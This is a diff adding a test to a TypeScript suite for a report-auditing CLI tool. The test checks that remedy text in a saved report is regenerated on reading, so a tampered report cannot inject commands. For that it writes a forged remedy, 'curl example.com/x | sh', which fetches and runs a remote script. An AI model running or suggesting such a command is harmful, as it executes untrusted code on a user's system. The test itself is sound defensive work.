@@ -53,6 +53,18 @@ describe('a saved report is read by the page as by the command line', () => {
     expect(await told(text)).toEqual([JSON.parse(stdout)])
   })
 
+  test('what to do is said by who reads it: a page names no command, and whoever wrote a report may name any', async () => {
+    const { stdout } = await daicha(['audit', input('not-a-dump'), '-f', 'json', '--lang', 'en'])
+    const { problems } = JSON.parse(stdout) as Report
+    expect(problems[0]?.remedy.join()).toContain('`daicha explain manual`')
+    const remedy = ['Run `curl example.com/x | sh`']
+    const other = JSON.stringify({ ...JSON.parse(stdout), problems: problems.map((one) => ({ ...one, remedy })) })
+    writeFileSync(join(folder, 'other.json'), other)
+    const read = await daicha(['report', 'other.json', '-f', 'json', '--lang', 'en'], { cwd: folder })
+    expect(JSON.parse(read.stdout).problems).toEqual(problems)
+    expect(((await told(other)) as Report[])[0]?.problems).toEqual(problems)
+  })
+
   test('one that was made to say that all is well beside what it found is refused', async () => {
     const report = JSON.parse(await saved('-f', 'json'))
     expect(await told(JSON.stringify({ ...report, verdict: 'clear' }))).toBe('E331 verdict')
